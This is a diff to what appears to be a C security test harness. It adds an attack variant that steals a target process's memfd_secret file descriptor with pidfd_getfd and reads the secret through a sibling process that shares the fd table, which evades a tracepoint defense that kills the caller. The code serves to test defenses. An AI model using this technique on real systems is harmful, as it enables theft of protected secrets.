@@ -13,7 +13,9 @@
 #include <sys/resource.h>
 #include <sys/stat.h>
 #include <sys/statfs.h>
+#include <sched.h>
 #include <sys/syscall.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include "attack.h"
@@ -458,4 +460,83 @@ int v_prlimit_soft0(void)
 			item("\"what\":\"RLIMIT_CORE soft 0\",\"bytes\":0,\"hits\":0");
 	}
 	return finish();
+}
+
+/* What the attacker tells its sibling (shared memory: the fd table is
+ * shared too, so a pipe would not close when the attacker dies). */
+struct sibling_news {
+	int done; /* pidfd_getfd returned: the attacker was not killed first */
+	int err;  /* its errno, 0: an fd was installed */
+};
+
+/* The sibling: waits until the attacker is done or dead, then looks for a
+ * memfd_secret fd in the shared table and reads the secret through it. */
+static int sibling(int attacker_pidfd, volatile struct sibling_news *news)
+{
+	long secretmem = 0;
+	int saw = 0;
+
+	for (int i = 0; i < 500 && !news->done; i++) {
+		struct pollfd pfd = { .fd = attacker_pidfd, .events = POLLIN };
+
+		if (poll(&pfd, 1, 10) == 1)
+			break; /* the attacker exited (killed) */
+	}
+	for (int fd = 0; fd < ALL_FDS; fd++) {
+		struct statfs fs;
+		void *p;
+
+		if (fstatfs(fd, &fs) != 0 || fs.f_type != SECRETMEM_MAGIC)
+			continue;
+		secretmem++;
+		p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
+		if (p != MAP_FAILED) {
+			struct scanner sc = { 0 };
+
+			feed(&sc, p, 4096);
+			saw |= sc.hits > 0;
+			munmap(p, 4096);
+		}
+	}
+	printf("{\"attack\":\"getfd_sibling\",\"pid\":%d,\"result\":\"%s\",\"attacker\":\"%s\","
+	       "\"getfd_err\":\"%s\",\"stolen_secretmem\":%ld,\"saw_secret\":%s}\n",
+	       (int)attack.pid, secretmem ? "ok" : "none", news->done ? "alive" : "killed",
+	       news->done && news->err ? ename(news->err) : "", secretmem,
+	       saw ? "true" : "false");
+	fflush(stdout);
+	return secretmem ? 0 : 1;
+}
+
+/* The tracepoint tier's limit: it kills the caller of pidfd_getfd at the
+ * syscall's entry, but the call completes and installs the fd before the
+ * kill lands; a process sharing the caller's fd table (clone(CLONE_FILES),
+ * not its thread group) survives and keeps it. The attacker steals fd FDS
+ * of the target once; its sibling reports what the shared table holds. */
+int v_getfd_sibling(void)
+{
+	volatile struct sibling_news *news;
+	int pidfd, self, status = 0;
+	pid_t child;
+
+	news = mmap(NULL, sizeof(*news), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1,
+		    0);
+	pidfd = syscall(SYS_pidfd_open, attack.pid, 0);
+	self = syscall(SYS_pidfd_open, getpid(), 0);
+	if (news == MAP_FAILED || pidfd < 0 || self < 0) {
+		refused(news == MAP_FAILED ? "mmap" : "pidfd_open", errno);
+		return finish();
+	}
+	child = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, NULL, NULL, 0);
+	if (child < 0) {
+		refused("clone", errno);
+		return finish();
+	}
+	if (child == 0)
+		_exit(sibling(self, news));
+	int fd = syscall(SYS_pidfd_getfd, pidfd, atoi(attack.fds), 0);
+
+	news->err = fd < 0 ? errno : 0;
+	news->done = 1;
+	waitpid(child, &status, 0);
+	return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
 }
